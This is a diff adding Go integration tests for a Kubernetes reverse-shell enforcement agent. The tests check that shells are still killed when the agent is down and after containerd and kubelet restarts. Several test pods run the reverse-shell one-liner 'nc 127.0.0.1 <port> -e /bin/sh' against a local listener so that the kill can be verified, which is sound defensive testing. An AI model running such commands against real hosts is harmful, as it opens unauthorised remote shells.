@@ -1,0 +1,124 @@
+package k8s
+
+import (
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// agentDown takes the agent off the node (a nodeSelector nothing
+// matches) and returns the function that brings it back.
+func agentDown(t *testing.T) func() {
+	t.Helper()
+	kubectl(t, "", "-n", cluster.ns, "patch", "daemonset/ocigate", "--type=merge", "-p",
+		`{"spec":{"template":{"spec":{"nodeSelector":{"`+cluster.prefix+`/no-such-node":"x"}}}}}`)
+	eventually(t, 60*time.Second, "agent pod gone", func() error {
+		out, _ := kubectlErr("", "-n", cluster.ns, "get", "pods", "-o", "name")
+		if strings.TrimSpace(out) != "" {
+			return fmt.Errorf("still there: %s", out)
+		}
+		return nil
+	})
+	return func() {
+		kubectl(t, "", "-n", cluster.ns, "patch", "daemonset/ocigate", "--type=json", "-p",
+			`[{"op":"remove","path":"/spec/template/spec/nodeSelector"}]`)
+		kubectl(t, "", "-n", cluster.ns, "rollout", "status", "daemonset/ocigate", "--timeout=120s")
+	}
+}
+
+// TestAgentGoneKeepsEnforcementAndNoDeadlock: with the agent pod gone,
+// a running pod's reverse shell is still killed (the pinned programs
+// and maps stay), a new pod is refused by containerd's NRI validator
+// (the ocigate plugin is required), and the agent's own pod starts
+// nevertheless; the new agent takes the running pod over.
+func TestAgentGoneKeepsEnforcementAndNoDeadlock(t *testing.T) {
+	ns := namespace(t, cluster.prefix+"-down")
+	l := listen(t, "127.0.0.1:0")
+	trigger := fmt.Sprintf("while [ ! -e /tmp/go ]; do sleep 0.2; done; nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.port())
+	kubectl(t, podSpec{ns: ns, name: "waiting", image: "busybox", shell: "/bin/sh", hostNetwork: true, script: trigger}.manifest(), "apply", "-f", "-")
+	kubectl(t, podSpec{ns: ns, name: "survivor", image: "busybox", shell: "/bin/sh", script: "sleep 3600"}.manifest(), "apply", "-f", "-")
+	kubectl(t, "", "-n", ns, "wait", "--for=condition=Ready", "pod/waiting", "pod/survivor", "--timeout=60s")
+	id := strings.TrimPrefix(kubectl(t, "", "-n", ns, "get", "pod", "survivor", "-o", "jsonpath={.status.containerStatuses[0].containerID}"), "containerd://")
+	up := agentDown(t)
+	restored := false
+	defer func() {
+		if !restored {
+			up()
+		}
+	}()
+	kubectl(t, "", "-n", ns, "exec", "waiting", "--", "touch", "/tmp/go")
+	var code string
+	eventually(t, 30*time.Second, "the reverse shell ends", func() error {
+		code = kubectl(t, "", "-n", ns, "get", "pod", "waiting", "-o", "jsonpath={.status.containerStatuses[0].state.terminated.exitCode}")
+		if code == "" {
+			return fmt.Errorf("running")
+		}
+		return nil
+	})
+	logs := kubectl(t, "", "-n", ns, "logs", "waiting")
+	if !strings.Contains(logs, "rc=137") || l.answered.Load() {
+		t.Errorf("with the agent gone the reverse shell was not killed: %q", logs)
+	}
+	kubectl(t, podSpec{ns: ns, name: "refused", image: "busybox", shell: "/bin/sh", script: "echo started"}.manifest(), "apply", "-f", "-")
+	eventually(t, 60*time.Second, "the new pod is refused", func() error {
+		out := kubectl(t, "", "-n", ns, "get", "pod", "refused", "-o", "jsonpath={.status.containerStatuses[0].state.waiting.message}")
+		if !strings.Contains(out, `required plugin "ocigate"`) {
+			return fmt.Errorf("waiting message %q", out)
+		}
+		return nil
+	})
+	up()
+	restored = true
+	eventually(t, 60*time.Second, "the refused pod starts once the agent is back", func() error {
+		out := kubectl(t, "", "-n", ns, "get", "pod", "refused", "-o", "jsonpath={.status.phase}")
+		if out != "Succeeded" {
+			return fmt.Errorf("phase %q", out)
+		}
+		return nil
+	})
+	st := kubectl(t, "", "-n", cluster.ns, "exec", "daemonset/ocigate", "-c", "agent", "--",
+		"/ocigate-agentd", "status", "-o", "json", "--socket="+cluster.runDir+"/agentd.sock")
+	if !strings.Contains(st, id) {
+		t.Errorf("the new agent does not list the running pod's container %s:\n%s", id, st)
+	}
+}
+
+// TestRuntimeRestartsWhileDaemonSetExists restarts containerd, then the
+// kubelet, with the DaemonSet in place: the agent's pod comes back ready
+// (its NRI plugin reconnects), new pods start, and a reverse shell
+// started after each restart is still killed.
+func TestRuntimeRestartsWhileDaemonSetExists(t *testing.T) {
+	root, _ := filepath.Abs("../..")
+	ns := namespace(t, cluster.prefix+"-restarts")
+	l := listen(t, "127.0.0.1:0")
+	for _, what := range []string{"containerd", "kubelet"} {
+		out, err := exec.Command(filepath.Join(root, "scripts/k8s-cluster.sh"), "restart", os.Getenv("K8S_DIR"), what).CombinedOutput()
+		if err != nil {
+			t.Fatalf("restart %s: %v\n%s", what, err, out)
+		}
+		kubectl(t, "", "-n", cluster.ns, "rollout", "status", "daemonset/ocigate", "--timeout=120s")
+		eventually(t, 60*time.Second, "agent ready after the "+what+" restart", func() error {
+			ready := kubectl(t, "", "-n", cluster.ns, "get", "pods", "-o", "jsonpath={.items[*].status.containerStatuses[*].ready}")
+			if ready != "true true" {
+				return fmt.Errorf("ready %q", ready)
+			}
+			return nil
+		})
+		code, _ := run(t, podSpec{ns: ns, name: "after-" + what, image: "busybox", shell: "/bin/sh", script: "echo started"})
+		if code != 0 {
+			t.Errorf("after the %s restart a plain pod exited %d", what, code)
+		}
+		_, logs := run(t, podSpec{ns: ns, name: "revshell-after-" + what, image: "busybox", shell: "/bin/sh", hostNetwork: true,
+			script: fmt.Sprintf("nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.port())})
+		if !strings.Contains(logs, "rc=137") {
+			t.Errorf("after the %s restart the reverse shell was not killed: %q", what, logs)
+		}
+	}
+	if l.answered.Load() {
+		t.Errorf("a shell answered the listener")
+	}
+}
